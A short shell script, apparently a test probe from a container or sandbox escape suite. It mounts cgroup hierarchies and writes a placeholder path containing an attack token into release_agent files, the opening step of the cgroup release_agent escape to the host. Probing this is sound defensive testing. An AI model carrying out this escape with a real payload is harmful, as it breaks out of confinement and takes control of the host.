# Makes the host start a program when a control group becomes empty.
# evidence: setting
# bare: refused
for kind in rdma memory pids cpu; do
    mkdir -p "$TMPDIR/cg-$kind"
    mount -t cgroup -o "$kind" cgroup "$TMPDIR/cg-$kind" && echo "/nonexistent/$ATTACK_TOKEN" > "$TMPDIR/cg-$kind/release_agent"
    echo "/nonexistent/$ATTACK_TOKEN" > "/sys/fs/cgroup/$kind/release_agent"
done
